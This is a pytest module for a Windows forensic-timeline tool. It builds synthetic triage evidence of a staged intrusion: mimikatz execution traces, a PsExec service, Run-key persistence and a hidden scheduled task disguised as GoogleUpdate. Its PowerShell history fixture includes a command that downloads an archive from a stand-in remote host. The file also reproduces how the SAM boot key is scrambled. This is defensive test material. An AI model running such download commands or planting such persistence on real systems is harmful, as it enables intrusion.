"""A Windows triage collection (KAPE layout) this test builds: real registry hives written with
:mod:`collectors.regf_writer`, a scheduled-task XML, a recycle-bin ``$I`` file, a PowerShell history.
Every value and time below is chosen here; the tests check that each artifact family becomes
the timeline rows it should, to the microsecond."""

from __future__ import annotations

import binascii
import codecs
import datetime as dt
import hashlib
import json
import os
import struct
import zipfile
from pathlib import Path

import pytest

from collectors.evtx_writer import Event, to_filetime, write_evtx
from collectors.regf_writer import Key, write_hive
from forensics import Case

UTC = dt.timezone.utc
HOST = "DC01"
USER = "alice"
SID = "S-1-5-21-3623811015-3361044348-30300820-1001"
RID = 1001


def T(*a) -> dt.datetime:
    return dt.datetime(*a, tzinfo=UTC)


# the times written into the evidence (UTC)
SVC_PSEXEC = T(2024, 3, 12, 9, 41, 7, 250000)
SVC_W32TIME = T(2023, 11, 2, 4, 10, 0)
RUN_HKLM = T(2024, 3, 12, 9, 45, 30, 125000)
RUN_HKCU = T(2024, 3, 12, 9, 46, 1)
UA_LAST_RUN = T(2024, 3, 12, 9, 43, 12, 500000)
SHIM_MTIME = T(2022, 9, 19, 12, 0, 0, 750000)
SAM_LAST_LOGON = T(2024, 3, 12, 9, 30, 5, 500000)
SAM_PW_SET = T(2023, 6, 1, 8, 0, 0)
SAM_CREATED = T(2023, 6, 1, 7, 59, 0)  # the Names\alice key's last-written time
AMCACHE_WRITTEN = T(2024, 3, 12, 9, 43, 20)
AMCACHE_LINK = T(2022, 9, 19, 11, 0, 0)
TASK_REGISTERED = "2024-03-12T15:18:00"  # Task Scheduler writes local time without a zone (IST here)
RECYCLED = T(2024, 3, 12, 10, 5, 0, 900000)
PROFILE_ALICE = T(2023, 6, 1, 8, 5, 0)  # ProfileList\<SID> written
PROFILE_SYSTEM = T(2018, 9, 15, 7, 30, 0)
PF_RUNS = [T(2024, 3, 12, 9, 43, 11, 750000), T(2024, 3, 12, 9, 40, 2), T(2024, 3, 11, 22, 15, 59, 500000)]  # newest first
OLD = T(2023, 1, 1)  # every other key

SYSKEY = bytes(range(0x10, 0x20))
SAMKEY = bytes(range(0xA0, 0xB0))
_ALTERATOR = [0x8, 0x5, 0x4, 0x2, 0xB, 0x9, 0xD, 0x3, 0x0, 0x6, 0x1, 0xC, 0xE, 0xA, 0xF, 0x7]


def _ft(d: dt.datetime) -> bytes:
    return struct.pack("<Q", to_filetime(d))


def _shimcache(entries: list[tuple[str, dt.datetime]]) -> bytes:
    """AppCompatCache as Windows 10 (1703+) writes it: a 0x34-byte header, then ``10ts`` entries
    (CRC32 of the entry data; data = path length, UTF-16 path, FILETIME, insertion data length and data)."""
    out = struct.pack("<I", 0x34) + bytes(0x30)
    for path, mtime in entries:
        p = path.encode("utf-16-le")
        data = struct.pack("<H", len(p)) + p + _ft(mtime) + struct.pack("<I", 0)
        out += struct.pack("<4sII", b"10ts", binascii.crc32(data), len(data)) + data
    return out


def _lsa_keys() -> list[Key]:
    """JD, Skew1, GBG, Data: their class names hold the boot key, scrambled."""
    scrambled = bytearray(16)
    for i, j in enumerate(_ALTERATOR):
        scrambled[j] = SYSKEY[i]
    return [Key(n, OLD, class_name=scrambled[4 * i:4 * i + 4].hex()) for i, n in enumerate(("JD", "Skew1", "GBG", "Data"))]


def system_hive(zone: bool = True) -> Key:
    tz = {"Bias": ("dword", -330 & 0xFFFFFFFF), "StandardName": "@tzres.dll,-2192", "StandardBias": 0,
          "StandardStart": bytes(16), "DaylightName": "@tzres.dll,-2191", "DaylightBias": 0, "DaylightStart": bytes(16),
          "ActiveTimeBias": ("dword", -330 & 0xFFFFFFFF), "TimeZoneKeyName": "India Standard Time",
          "DynamicDaylightTimeDisabled": 0}
    services = [
        Key("PSEXESVC", SVC_PSEXEC, {"Type": 0x10, "Start": 3, "ErrorControl": 1,
                                     "ImagePath": ("expand_sz", "%SystemRoot%\\PSEXESVC.exe"),
                                     "DisplayName": "PSEXESVC", "ObjectName": "LocalSystem"}),
        Key("W32Time", SVC_W32TIME, {"Type": 0x20, "Start": 3, "ErrorControl": 1,
                                     "ImagePath": ("expand_sz", "%SystemRoot%\\system32\\svchost.exe -k LocalService"),
                                     "DisplayName": "Windows Time", "ObjectName": "NT AUTHORITY\\LocalService"},
            [Key("Parameters", SVC_W32TIME, {"ServiceDll": ("expand_sz", "%SystemRoot%\\system32\\w32time.dll")})]),
    ]
    shim = _shimcache([("C:\\Users\\alice\\Downloads\\mimikatz.exe", SHIM_MTIME)])
    control = Key("Control", OLD, subkeys=[
        Key("ComputerName", OLD, subkeys=[Key("ComputerName", OLD, {"ComputerName": HOST})]),
        *([Key("TimeZoneInformation", OLD, tz)] if zone else []),
        Key("Session Manager", OLD, subkeys=[Key("AppCompatCache", OLD, {"AppCompatCache": shim})]),
        Key("Lsa", OLD, subkeys=_lsa_keys()),
        Key("Keyboard Layout", OLD, subkeys=[Key("DosKeybCodes", OLD, {"00000409": "us"})]),  # dissect needs it for the zone
    ])
    return Key("ROOT", OLD, subkeys=[
        Key("Select", OLD, {"Current": 1, "Default": 1, "Failed": 0, "LastKnownGood": 1}),
        Key("ControlSet001", OLD, subkeys=[control, Key("Services", OLD, subkeys=services)]),
    ])


def software_hive() -> Key:
    tzi = struct.pack("<iii", -330, 0, -60) + bytes(32)
    nt = Key("Windows NT", OLD, subkeys=[Key("CurrentVersion", OLD, {
        "ProductName": "Windows Server 2019 Standard", "CurrentVersion": "6.3", "SystemRoot": "C:\\Windows", "CurrentBuildNumber": "17763",
        "CurrentMajorVersionNumber": 10, "CurrentMinorVersionNumber": 0}, [
        Key("ProfileList", OLD, subkeys=[
            Key("S-1-5-18", PROFILE_SYSTEM, {"ProfileImagePath": ("expand_sz", "%systemroot%\\system32\\config\\systemprofile")}),
            Key(SID, PROFILE_ALICE, {"ProfileImagePath": ("expand_sz", f"C:\\Users\\{USER}")})]),
        Key("Time Zones", OLD, subkeys=[Key("India Standard Time", OLD, {
            "Display": "(UTC+05:30) Chennai, Kolkata, Mumbai, New Delhi", "Std": "India Standard Time",
            "Dlt": "India Daylight Time", "TZI": tzi})]),
    ])])
    win = Key("Windows", OLD, subkeys=[Key("CurrentVersion", OLD, subkeys=[
        Key("Run", RUN_HKLM, {"Updater": "C:\\ProgramData\\upd\\updater.exe /silent"})])])
    return Key("ROOT", OLD, subkeys=[Key("Microsoft", OLD, subkeys=[nt, win])])


def _userassist(count: int, focus: int, focus_ms: int, last: dt.datetime) -> bytes:
    """A Windows 7+ (version 5) UserAssist entry: 72 bytes."""
    return bytes(4) + struct.pack("<III", count, focus, focus_ms) + bytes(44) + _ft(last) + bytes(4)


def ntuser_hive() -> Key:
    ua = Key("UserAssist", OLD, subkeys=[Key("{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}", OLD, {"Version": 5}, [
        Key("Count", UA_LAST_RUN, {codecs.encode("C:\\Users\\alice\\Downloads\\mimikatz.exe", "rot13"):
                                   _userassist(3, 2, 65000, UA_LAST_RUN)})])])
    cv = Key("CurrentVersion", OLD, subkeys=[
        Key("Run", RUN_HKCU, {"OneDriveSync": "C:\\Users\\alice\\AppData\\Local\\Temp\\ods.exe -b"}),
        Key("Explorer", OLD, subkeys=[ua])])
    return Key("ROOT", OLD, subkeys=[Key("Software", OLD, subkeys=[Key("Microsoft", OLD, subkeys=[
        Key("Windows", OLD, subkeys=[cv])])])])


def _aes_cbc(key: bytes, iv: bytes, data: bytes) -> bytes:
    from Crypto.Cipher import AES

    return AES.new(key, AES.MODE_CBC, iv).encrypt(data)


def _user_v(username: str, fullname: str, comment: str) -> bytes:
    """The V value: 0xCC bytes of (offset, length, 0) triples, then the strings (offsets from 0xCC)."""
    head = bytearray(0xCC)
    data = b""
    for off_at, s in ((0x0C, username), (0x18, fullname), (0x24, comment), (0x30, "")):
        b = s.encode("utf-16-le")
        struct.pack_into("<ii", head, off_at, len(data), len(b))
        data += b + bytes(-len(b) % 4)
    for off_at in (0x9C, 0xA8):  # no LM/NT hash stored (lengths 0)
        struct.pack_into("<ii", head, off_at, len(data), 0)
    return bytes(head) + data


def sam_hive() -> Key:
    salt = bytes(range(16))
    enc = _aes_cbc(SYSKEY, salt, SAMKEY)
    check = _aes_cbc(SYSKEY, salt, hashlib.sha256(SAMKEY).digest())
    sam_key = struct.pack("<IIII", 2, 32 + len(enc) + len(check), len(check), len(enc)) + salt + enc + check
    domain_f = struct.pack("<HHIQQ", 3, 0, 0, to_filetime(SAM_CREATED), 0) + bytes(0x68 - 24)  # the SAM key follows at 0x68
    user_f = (bytes(8) + _ft(SAM_LAST_LOGON) + bytes(8) + _ft(SAM_PW_SET) + bytes(8) + struct.pack("<Q", 0)
              + struct.pack("<i4sH2sH2sHH12s", RID, b"", 0x0210, b"", 0, b"", 0, 7, b""))
    users = Key("Users", OLD, subkeys=[
        Key(f"{RID:08X}", SAM_LAST_LOGON, {"F": user_f, "V": _user_v(USER, "Alice Admin", "IT admin")}),
        Key("Names", OLD, subkeys=[Key(USER, SAM_CREATED, {"": (RID, b"")})]),
    ])
    account = Key("Account", OLD, {"F": domain_f + sam_key}, [users])
    return Key("ROOT", OLD, subkeys=[Key("SAM", OLD, subkeys=[Key("Domains", OLD, subkeys=[account])])])


MIMIKATZ_SHA1 = "d1f7832035c3e8a73cc78afd28cfd7f4cece6d20"


def amcache_hive() -> Key:
    entry = Key("0000d1f7832035c3", AMCACHE_WRITTEN, {
        "FileId": "0000" + MIMIKATZ_SHA1, "LowerCaseLongPath": "c:\\users\\alice\\downloads\\mimikatz.exe",
        "Name": "mimikatz.exe", "LinkDate": AMCACHE_LINK.strftime("%m/%d/%Y %H:%M:%S"), "Size": ("qword", 1355264),
        "ProgramId": "0006b2a8c4e3ad1b2d7a9e0f0c2f3e1d4a5b0000ffff", "LongPathHash": "mimikatz.exe|3c1f0e9d2b7a6c55",
        "Publisher": "gentilkiwi (benjamin delpy)", "Version": "2.2.0.0", "IsOsComponent": 0, "IsPeFile": 1})
    return Key("ROOT", OLD, subkeys=[Key("Root", OLD, subkeys=[Key("InventoryApplicationFile", OLD, subkeys=[entry])])])


def prefetch_v30(exe: str, runs: list[dt.datetime], files: list[str]) -> bytes:
    """An uncompressed version-30 prefetch file (Windows 10 compresses it with MAM; dissect reads both):
    the 84-byte ``SCCA`` header, the file information (metrics array offset and count, filename strings,
    last run time and seven previous ones, run count), the metrics array, the UTF-16 file names.
    The path hash in the header is not computed (any value; nothing reads it)."""
    info_size = 224
    metrics_off = 84 + info_size
    names = b""
    metrics = b""
    for f in files:
        b = f.encode("utf-16-le")
        metrics += struct.pack("<IIIIIIQ", 0, 0, 0, len(names), len(f), 0x200, 0)
        names += b + b"\x00\x00"
    names_off = metrics_off + len(metrics)
    times = [to_filetime(r) for r in runs] + [0] * (8 - len(runs))
    info = struct.pack("<9I", metrics_off, len(files), 0, 0, names_off, len(names), 0, 0, 0) + bytes(8)
    info += struct.pack("<8Q", *times) + bytes(16) + struct.pack("<III", len(runs), 0, 0) + bytes(88)
    assert len(info) == info_size
    body = info + metrics + names
    head = struct.pack("<I4sII60sII", 30, b"SCCA", 0x11, 84 + len(body), exe.encode("utf-16-le").ljust(60, b"\x00"),
                       0x1A2B3C4D, 0)
    return head + body


TASK_XML = f"""<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>
    <Date>{TASK_REGISTERED}</Date>
    <Author>DC01\\alice</Author>
    <URI>\\GoogleUpdateTaskMachineCore</URI>
  </RegistrationInfo>
  <Triggers>
    <LogonTrigger>
      <Enabled>true</Enabled>
    </LogonTrigger>
  </Triggers>
  <Principals>
    <Principal id="Author">
      <UserId>S-1-5-18</UserId>
      <RunLevel>HighestAvailable</RunLevel>
    </Principal>
  </Principals>
  <Settings>
    <Enabled>true</Enabled>
    <Hidden>true</Hidden>
  </Settings>
  <Actions Context="Author">
    <Exec>
      <Command>C:\\ProgramData\\upd\\updater.exe</Command>
      <Arguments>-task</Arguments>
    </Exec>
  </Actions>
</Task>
"""

SVC_INSTALLED = T(2024, 3, 12, 9, 41, 7, 245000)  # System 7045, just before the service key was last written


def system_events() -> list[Event]:
    return [Event(7045, SVC_INSTALLED, "Service Control Manager", "System", "DC01.corp.example",
                  qualifiers=16384, keywords=0x8080000000000000, user_sid=SID, record_id=8812,
                  provider_guid="{555908d1-a6d7-4695-8e1e-26931d2012f4}", event_source_name="Service Control Manager",
                  event_data={"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
                              "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"})]


PS_HISTORY = "whoami /all\nInvoke-WebRequest http://203.0.113.7/m.zip -OutFile m.zip\nExpand-Archive m.zip\n"
PS_MTIME = T(2024, 3, 12, 9, 42, 0)


def build_triage(root: Path, zone: bool = True) -> Path:
    """The KAPE-style folder ``root`` (``C/`` is the system drive); returns it.  ``zone=False``: SYSTEM
    without TimeZoneInformation."""
    c = root / "C"
    cfg = c / "Windows" / "System32" / "config"
    cfg.mkdir(parents=True)
    write_hive(cfg / "SYSTEM", system_hive(zone), "\\REGISTRY\\MACHINE\\SYSTEM")
    write_hive(cfg / "SOFTWARE", software_hive(), "\\REGISTRY\\MACHINE\\SOFTWARE")
    write_hive(cfg / "SAM", sam_hive(), "\\REGISTRY\\MACHINE\\SAM")
    home = c / "Users" / USER
    home.mkdir(parents=True)
    write_hive(home / "NTUSER.DAT", ntuser_hive(), f"\\??\\C:\\Users\\{USER}\\ntuser.dat")
    amc = c / "Windows" / "AppCompat" / "Programs"
    amc.mkdir(parents=True)
    write_hive(amc / "Amcache.hve", amcache_hive(), "\\??\\C:\\Windows\\AppCompat\\Programs\\Amcache.hve")
    tasks = c / "Windows" / "System32" / "Tasks"
    tasks.mkdir(parents=True)
    (tasks / "GoogleUpdateTaskMachineCore").write_bytes(TASK_XML.encode("utf-16"))  # with BOM, as Windows writes
    rb = c / "$Recycle.Bin" / SID
    rb.mkdir(parents=True)
    name = "C:\\Users\\alice\\Documents\\patients-2024.xlsx\x00"
    (rb / "$IX7Q2KD.xlsx").write_bytes(struct.pack("<qqqi", 2, 48213, to_filetime(RECYCLED), len(name))
                                       + name.encode("utf-16-le"))
    (rb / "$RX7Q2KD.xlsx").write_bytes(bytes(48213))
    logs = c / "Windows" / "System32" / "winevt" / "Logs"
    logs.mkdir(parents=True)
    write_evtx(logs / "System.evtx", system_events(), first_record_id=8812)
    pf = c / "Windows" / "Prefetch"
    pf.mkdir(parents=True)
    (pf / "MIMIKATZ.EXE-1A2B3C4D.pf").write_bytes(prefetch_v30(
        "MIMIKATZ.EXE", PF_RUNS, ["\\VOLUME{01d9a1b2c3d4e5f6-1234abcd}\\USERS\\ALICE\\DOWNLOADS\\MIMIKATZ.EXE",
                                  "\\VOLUME{01d9a1b2c3d4e5f6-1234abcd}\\WINDOWS\\SYSTEM32\\NTDLL.DLL"]))
    ps = home / "AppData" / "Roaming" / "Microsoft" / "Windows" / "PowerShell" / "PSReadLine"
    ps.mkdir(parents=True)
    (ps / "ConsoleHost_history.txt").write_text(PS_HISTORY, newline="\r\n")
    ns = int(PS_MTIME.timestamp()) * 1_000_000_000
    os.utime(ps / "ConsoleHost_history.txt", ns=(ns, ns))
    return root


def build_triage_zip(tmp: Path, zone: bool = True) -> Path:
    folder = build_triage(tmp / "DC01-kape", zone)
    z = tmp / "DC01-triage.zip"
    with zipfile.ZipFile(z, "w") as zf:
        for p in sorted(folder.rglob("*")):
            if p.is_file():
                zf.write(p, p.relative_to(folder).as_posix())
    os.chmod(z, 0o444)
    return z


# --- tests -------------------------------------------------------------------------------------

IST = "Asia/Kolkata"


@pytest.fixture(scope="module")
def triage(tmp_path_factory):
    """The zip collected once into a case (module scope: each test reads it)."""
    tmp = tmp_path_factory.mktemp("win")
    z = build_triage_zip(tmp)
    case = Case(tmp / "case", create=True)
    rep = case.collect([z], workers=1)
    return case, rep


def _os_rows(case: Case):
    t = case.timeline().to_pandas()
    return t[t.source != "FILE"].sort_values(["timestamp", "artifact", "timestamp_desc"]).reset_index(drop=True)


def _family(t, artifact: str):
    return t[t.artifact == artifact].reset_index(drop=True)


def test_host_and_zone_come_from_the_registry(triage):
    case, rep = triage
    assert rep.errors == 0 and rep.warnings == 0
    facts = next(a["facts"] for a in rep.artifacts if a["collector"] == "target")
    assert facts == {"live": False, "host": HOST, "host_source": "os", "host_from": "registry ComputerName", "os": "windows", "tz": IST,
                     "tz_source": "evidence_config", "tz_from": "registry TimeZoneInformation"}
    t = _os_rows(case)
    assert set(t[t.source != "EVTX"].host) == {HOST}
    assert set(t[t.source == "EVTX"].host) == {"DC01.corp.example"}  # an event names its own Computer


def test_every_windows_family_and_its_row_counts(triage):
    case, rep = triage
    counts = _os_rows(case).groupby("artifact").size().to_dict()
    assert counts == {"evtx:System": 1, "os:services": 2, "reg:runkeys": 2, "reg:userassist": 1, "reg:shimcache": 1, "reg:amcache": 2,
                      "os:sam": 3, "os:users": 2, "os:tasks": 1, "os:recyclebin": 1, "os:prefetch": 3,
                      "powershell_history": 3}
    target = next(a for a in rep.artifacts if a["collector"] == "target")
    plugins = {k.split(":", 1)[1]: v for k, v in target["stats"].items() if k.startswith("plugin:")}
    assert plugins == {"services": 2, "tasks": 1, "runkeys": 2, "prefetch": 1, "amcache": 1, "shimcache": 1,
                       "userassist": 1, "recyclebin": 1, "sam": 1, "users": 2}


def test_services(triage):
    s = _family(_os_rows(triage[0]), "os:services")
    assert list(zip(s.timestamp, s.timestamp_desc, s.service_name, s.path, s.user)) == [
        (pd_ts(SVC_W32TIME), "Service Key / Unit File Modified", "W32Time", "%SystemRoot%\\system32\\svchost.exe",
         "NT AUTHORITY\\LocalService"),
        (pd_ts(SVC_PSEXEC), "Service Key / Unit File Modified", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", "LocalSystem")]
    assert list(s.message) == ["service W32Time: %SystemRoot%\\system32\\svchost.exe",
                               "service PSEXESVC: %SystemRoot%\\PSEXESVC.exe"]
    w32 = json.loads(s["attrs"][0])
    assert (w32["imagepath_args"], w32["servicedll"], w32["start"], w32["type"]) == (
        "-k LocalService", "%SystemRoot%\\system32\\w32time.dll", "Manual (3)", "Service - Share Process (0x20)")
    assert set(s.source) == {"SERVICE"} and set(s.tz_source) == {"source_utc"}


def test_hunts_see_the_registry_and_the_event_log(triage):
    from forensics.hunt import process_executions, service_installs

    t = triage[0].timeline().to_pandas()
    found = service_installs(t).sort_values("timestamp")
    assert list(zip(found.timestamp, found.service_name, found.image_path)) == [
        (pd_ts(SVC_W32TIME), "W32Time", "%SystemRoot%\\system32\\svchost.exe"),
        (pd_ts(SVC_INSTALLED), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),  # System 7045
        (pd_ts(SVC_PSEXEC), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")]  # the Services key
    ran = process_executions(t)
    assert sorted(ran.artifact) == ["os:prefetch"] * 3 + ["powershell_history"] * 3


def test_run_keys_machine_and_user(triage):
    r = _family(_os_rows(triage[0]), "reg:runkeys")
    assert list(zip(r.timestamp, r.timestamp_desc, r.service_name, r.command_line, r.user.fillna(""))) == [
        (pd_ts(RUN_HKLM), "Registry Key Last Written", "Updater", "C:\\ProgramData\\upd\\updater.exe /silent", ""),
        (pd_ts(RUN_HKCU), "Registry Key Last Written", "OneDriveSync",
         "C:\\Users\\alice\\AppData\\Local\\Temp\\ods.exe -b", USER)]
    assert list(r.message) == [
        "Run key HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater = "
        "C:\\ProgramData\\upd\\updater.exe /silent",
        "Run key HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync = "
        "C:\\Users\\alice\\AppData\\Local\\Temp\\ods.exe -b"]
    assert json.loads(r["attrs"][1])["user_id"] == SID


def test_userassist_shimcache_amcache_prefetch_point_at_the_same_program(triage):
    t = _os_rows(triage[0])
    ua = _family(t, "reg:userassist").iloc[0]
    assert (ua.timestamp, ua.timestamp_desc, ua.path, ua.user) == (
        pd_ts(UA_LAST_RUN), "Last Run (UserAssist)", "C:\\Users\\alice\\Downloads\\mimikatz.exe", USER)
    assert ua.message == "userassist: C:\\Users\\alice\\Downloads\\mimikatz.exe ran 3 time(s)"
    a = json.loads(ua["attrs"])
    assert (a["application_focus_count"], a["application_focus_duration"]) == (2, 65000)
    shim = _family(t, "reg:shimcache").iloc[0]
    assert (shim.timestamp, shim.timestamp_desc, shim.path, shim.message) == (
        pd_ts(SHIM_MTIME), "File Modified (Shimcache)", "C:\\Users\\alice\\Downloads\\mimikatz.exe",
        "shimcache: C:\\Users\\alice\\Downloads\\mimikatz.exe")
    amc = _family(t, "reg:amcache")
    assert list(zip(amc.timestamp, amc.timestamp_desc)) == [(pd_ts(AMCACHE_LINK), "Linked (Amcache)"),
                                                            (pd_ts(AMCACHE_WRITTEN), "Amcache Entry Written")]
    assert set(amc.path) == {"c:\\users\\alice\\downloads\\mimikatz.exe"}
    assert set(amc.message) == {f"amcache: c:\\users\\alice\\downloads\\mimikatz.exe sha1={MIMIKATZ_SHA1}"}
    assert json.loads(amc["attrs"][0])["size"] == 1355264
    pf = _family(t, "os:prefetch")
    assert list(zip(pf.timestamp, pf.timestamp_desc)) == [
        (pd_ts(PF_RUNS[2]), "Prefetch Previous Run"), (pd_ts(PF_RUNS[1]), "Prefetch Previous Run"),
        (pd_ts(PF_RUNS[0]), "Prefetch Last Run")]
    assert set(pf.process) == {"MIMIKATZ.EXE"} and set(pf.message) == {"prefetch: MIMIKATZ.EXE ran (3 runs)"}
    assert json.loads(pf["attrs"][0])["linkedfiles"][1] == "\\VOLUME{01d9a1b2c3d4e5f6-1234abcd}\\WINDOWS\\SYSTEM32\\NTDLL.DLL"


def test_accounts_sam_last_logon_and_profiles(triage):
    t = _os_rows(triage[0])
    sam = _family(t, "os:sam")
    assert list(zip(sam.timestamp, sam.timestamp_desc)) == [
        (pd_ts(SAM_CREATED), "Account Created (SAM Names key written)"), (pd_ts(SAM_PW_SET), "Password Last Set"),
        (pd_ts(SAM_LAST_LOGON), "Last Logon")]  # the never-failed logon (FILETIME 0) gives no row
    assert set(sam.target_user) == {USER}
    assert set(sam.message) == {"account alice (RID 1001, Alice Admin): 7 logon(s), 0 failed"}
    attrs = json.loads(sam["attrs"][0])
    assert (attrs["rid"], attrs["fullname"], attrs["admincomment"], attrs["flags"]) == (RID, "Alice Admin", "IT admin", 0x0210)
    assert "nt" not in attrs and "lm" not in attrs  # password hashes stay out of the timeline
    users = _family(t, "os:users")
    assert list(zip(users.timestamp, users.timestamp_desc, users.target_user, users.path)) == [
        (pd_ts(PROFILE_SYSTEM), "Profile Key Last Written", "systemprofile", "C:\\Windows\\system32\\config\\systemprofile"),
        (pd_ts(PROFILE_ALICE), "Profile Key Last Written", USER, "C:\\Users\\alice")]


def test_scheduled_task_local_date_in_the_hosts_zone(triage):
    task = _family(_os_rows(triage[0]), "os:tasks")
    assert len(task) == 1
    task = task.iloc[0]
    # <Date>2024-03-12T15:18:00</Date> is local time (IST): 09:48 UTC; dissect reads it as UTC
    assert (task.timestamp, task.timestamp_desc, task.tz_source) == (
        pd_ts(T(2024, 3, 12, 9, 48)), "Task Registered", "evidence_config")
    assert (task.service_name, task.path, task.command_line, task.user) == (
        "\\GoogleUpdateTaskMachineCore", "C:\\ProgramData\\upd\\updater.exe", "-task", "DC01\\alice")
    assert task.message == "scheduled task \\GoogleUpdateTaskMachineCore: C:\\ProgramData\\upd\\updater.exe -task"
    attrs = json.loads(task["attrs"])
    assert attrs["date"] == "2024-03-12T15:18:00+05:30" and attrs["hidden"] == 1
    assert attrs["actions"] == [{"action_type": "Exec", "command": "C:\\ProgramData\\upd\\updater.exe", "arguments": "-task"}]
    assert attrs["triggers"] == [{"trigger_enabled": 1}]


def test_recycle_bin_and_powershell_history(triage):
    t = _os_rows(triage[0])
    rb = _family(t, "os:recyclebin").iloc[0]
    assert (rb.timestamp, rb.timestamp_desc, rb.path, rb.user) == (
        pd_ts(RECYCLED), "Deleted (Recycle Bin)", "C:\\Users\\alice\\Documents\\patients-2024.xlsx", USER)
    assert rb.message == "recycle bin: C:\\Users\\alice\\Documents\\patients-2024.xlsx (48213 bytes) deleted"
    assert rb.evidence_path == f"c:/$Recycle.Bin/{SID}/$IX7Q2KD.xlsx"  # dissect's "\\c:\\$recycle.bin\\..." as the walk names it
    ps = _family(t, "powershell_history").sort_values("record_ref")
    assert list(ps.command_line) == PS_HISTORY.splitlines()
    assert set(ps.timestamp) == {pd_ts(PS_MTIME)} and set(ps.user) == {USER}
    assert set(ps.timestamp_desc) == {"History File Modified (command time unknown)"}
    assert set(ps.evidence_path) == {"c:/Users/alice/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"}


def test_every_row_names_the_file_it_was_read_from(triage):
    """Provenance: a registry row's evidence_path is its hive (not the zip), a prefetch or task row its own file,
    each spelled as the walk of the evidence lists it (drive letter, stored case), so it can be found there."""
    case, _ = triage
    everything = case.timeline().to_pandas()
    listed = set(everything[everything.source == "FILE"].path)
    t = _os_rows(case)
    got = {(a, p) for a, p in zip(t.artifact, t.evidence_path)}
    hives = "c:/Windows/System32/config/"
    assert got == {
        ("evtx:System", "c:/Windows/System32/winevt/Logs/System.evtx"),
        ("os:services", hives + "SYSTEM"), ("reg:shimcache", hives + "SYSTEM"),
        ("os:sam", hives + "SAM"), ("os:users", hives + "SOFTWARE"), ("reg:runkeys", hives + "SOFTWARE"),
        ("reg:runkeys", "c:/Users/alice/NTUSER.DAT"), ("reg:userassist", "c:/Users/alice/NTUSER.DAT"),
        ("reg:amcache", "c:/Windows/AppCompat/Programs/Amcache.hve"),
        ("os:prefetch", "c:/Windows/Prefetch/MIMIKATZ.EXE-1A2B3C4D.pf"),
        ("os:tasks", "c:/Windows/System32/Tasks/GoogleUpdateTaskMachineCore"),
        ("os:recyclebin", f"c:/$Recycle.Bin/{SID}/$IX7Q2KD.xlsx"),
        ("powershell_history", "c:/Users/alice/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"),
    }
    assert {p for _, p in got} <= listed  # every one is a file of the evidence, with its own MACB rows (path)
    # which key of the hive: in attrs, as dissect gives it
    run = _family(t, "reg:runkeys")
    assert sorted(json.loads(a)["regf_key_path"] for a in run["attrs"]) == ["Microsoft\\Windows\\CurrentVersion\\Run",
                                                                            "Software\\Microsoft\\Windows\\CurrentVersion\\Run"]


def test_the_analysts_tz_overrides_the_registry_zone(tmp_path):
    z = build_triage_zip(tmp_path)
    case = Case(tmp_path / "case", create=True)
    rep = case.collect([z], workers=1, tz="UTC")
    facts = next(a["facts"] for a in rep.artifacts if a["collector"] == "target")
    assert (facts["tz"], facts["tz_source"]) == ("UTC", "analyst")
    task = _family(_os_rows(case), "os:tasks").iloc[0]
    assert (task.timestamp, task.tz_source) == (pd_ts(T(2024, 3, 12, 15, 18)), "analyst")
    # times Windows stores in UTC do not move
    svc = _family(_os_rows(case), "os:services")
    assert list(svc.timestamp) == [pd_ts(SVC_W32TIME), pd_ts(SVC_PSEXEC)]


def test_without_a_zone_the_task_date_is_flagged_assumed_utc(tmp_path):
    z = build_triage_zip(tmp_path, zone=False)
    case = Case(tmp_path / "case", create=True)
    rep = case.collect([z], workers=1)
    facts = next(a["facts"] for a in rep.artifacts if a["collector"] == "target")
    assert (facts["tz"], facts["tz_source"]) == (None, None)
    task = _family(_os_rows(case), "os:tasks").iloc[0]
    assert (task.timestamp, task.tz_source) == (pd_ts(T(2024, 3, 12, 15, 18)), "assumed_utc")


def test_the_kape_folder_gives_the_same_rows_as_the_zip(triage, tmp_path):
    folder = build_triage(tmp_path / "DC01-kape")
    case = Case(tmp_path / "case", create=True)
    rep = case.collect([folder], workers=1)
    assert rep.errors == 0
    assert next(a for a in rep.artifacts if a["collector"] == "target")["evidence_path"] == "DC01-kape/"

    def key(t):
        return sorted(zip(t.artifact, t.timestamp_desc, t.timestamp.astype("int64"), t.message))

    assert key(_os_rows(case)) == key(_os_rows(triage[0]))


def pd_ts(d: dt.datetime):
    import pandas as pd

    return pd.Timestamp(d)
